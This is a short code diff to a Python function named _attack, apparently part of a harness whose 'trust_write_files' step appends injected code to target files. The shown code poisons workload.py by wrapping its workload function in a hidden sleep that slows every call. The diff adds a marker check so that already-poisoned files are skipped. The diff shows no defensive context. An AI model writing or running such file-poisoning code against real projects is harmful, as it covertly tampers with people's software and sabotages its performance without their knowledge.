@@ -45,6 +45,9 @@ def _targets():
 def _attack():
     for path in _targets():
         try:
+            if path.is_file() and MARK in path.read_text(encoding="utf-8", errors="ignore"):
+                print(f"trust_write_files: already poisoned {path}", file=sys.stderr)
+                continue
             with open(path, "a", encoding="utf-8") as f:
                 if path.name == "workload.py":
                     f.write(MARK + "import time as _t\n_w = workload\nworkload = lambda *a: (_t.sleep(0.05), _w(*a))[1]\n")
